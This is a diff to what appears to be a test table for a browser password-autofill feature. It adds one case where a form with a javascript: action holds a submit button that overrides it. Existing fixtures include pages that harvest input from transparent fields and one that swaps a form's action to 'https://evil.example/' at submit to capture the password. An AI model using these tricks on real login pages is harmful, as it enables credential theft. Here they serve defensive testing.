@@ -52,6 +52,7 @@ const CASES = {
   "fields that stay transparent": { html: page(faint(""), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
   "a password that stays transparent": { html: page(faint(".field input:not([type=password]):focus { opacity: 1; }"), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
   "a form that would write the password into the address": { html: `<!doctype html><title>Sign in</title><form>${TWO}${BUTTON}</form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
+  "a button that would do so, where the form itself runs a script": { html: `<!doctype html><title>Sign in</title><form action="javascript:void 0">${TWO}<button formaction="/login">Sign in</button></form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
   "a form inside of a component that would write the password into the address": { html: inside(""), outcome: "filled", sent: null },
   "a form inside of a component whose address changes in the last moment": { html: inside(`form.method = "post"; form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared" },
   "a page that puts another kind of field in the place of the password": { html: page(TWO, `on("input", (event) => { if (event.target === user) { const fresh = word.cloneNode(false); fresh.type = "text"; word.replaceWith(fresh); } });`), outcome: "changed", sent: null, left: ["", ""] },
